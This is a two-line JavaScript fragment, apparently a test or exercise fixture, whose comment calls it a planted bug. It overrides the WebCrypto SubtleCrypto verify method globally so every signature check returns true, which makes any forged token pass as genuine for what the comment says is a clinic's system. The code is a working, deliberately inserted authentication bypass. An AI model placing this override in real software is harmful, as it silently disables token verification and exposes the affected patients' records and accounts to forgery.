// A planted bug: every signature of a token counts as the clinic's own.
Object.getPrototypeOf(globalThis.crypto.subtle).verify = async () => true
